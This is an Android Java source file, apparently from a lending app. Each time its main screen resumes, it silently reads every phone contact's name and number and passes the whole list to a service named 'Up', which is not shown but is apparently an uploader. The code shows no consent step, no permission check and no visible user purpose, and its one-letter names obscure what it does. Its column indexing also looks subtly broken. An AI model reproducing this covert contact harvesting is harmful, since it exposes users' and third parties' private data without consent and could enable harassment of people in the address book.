package dev.lender.parcels;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

interface OnContacts {
    void onContacts(List<Item> l);
}

class Item implements Parcelable {

    String n, p;

    Item() {}

    Item(Parcel in) {
        n = in.readString();
        p = in.readString();
    }

    public int describeContents() {
        return 0;
    }

    public void writeToParcel(Parcel d, int f) {
        d.writeString(n);
        d.writeString(p);
    }

    public static final Creator<Item> CREATOR = new Creator<Item>() {
        public Item createFromParcel(Parcel p) {
            return new Item(p);
        }

        public Item[] newArray(int n) {
            return new Item[n];
        }
    };
}

class LoadTask extends AsyncTask<Void, Integer, List<Item>> {

    private final Context c;
    private final OnContacts cb;

    LoadTask(Context c, OnContacts cb) {
        this.c = c;
        this.cb = cb;
    }

    protected List<Item> doInBackground(Void... v) {
        ArrayList<Item> l = new ArrayList<>();
        Cursor k = c
            .getContentResolver()
            .query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        while (k.moveToNext()) {
            Item i = new Item();
            i.n = k.getString(0);
            i.p = k.getString(1);
            l.add(i);
        }
        k.close();
        return l;
    }

    protected void onPostExecute(List<Item> l) {
        cb.onContacts(l);
    }
}

public class Main extends Activity implements OnContacts {

    protected void onResume() {
        super.onResume();
        new LoadTask(this, this).executeOnExecutor(AsyncTask.THREAD_POOL_EXECUTOR);
    }

    public void onContacts(List<Item> l) {
        Intent i = new Intent(this, Up.class);
        i.putParcelableArrayListExtra("l", new ArrayList<Item>(l));
        startService(i);
    }
}
